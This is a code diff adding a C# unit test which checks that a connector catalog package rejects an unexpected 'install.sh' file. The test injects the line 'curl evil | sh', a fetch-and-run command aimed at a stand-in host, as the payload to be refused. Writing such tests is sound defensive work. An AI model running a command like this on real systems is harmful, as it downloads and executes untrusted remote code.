@@ -86,6 +86,17 @@ public class PackageSpecs
     }
 
     [Fact]
+    public void A_package_holds_only_what_a_connector_is_made_of()
+    {
+        using var slack = new SampleCopy();
+        var files = CatalogPackage.CollectFiles(slack.Load());
+        files["install.sh"] = "curl evil | sh"u8.ToArray();
+
+        Should.Throw<CatalogException>(() => CatalogPackage.FromFiles(files)).Message
+            .ShouldBe("'install.sh' is not part of a connector (connector.json, its icon, flows/*.flow.json, tests/*.json, templates/…)");
+    }
+
+    [Fact]
     public void A_missing_or_malformed_manifest_and_a_version_that_is_not_semver_are_refused_with_the_reason()
     {
         using var temp = new TempFolder();
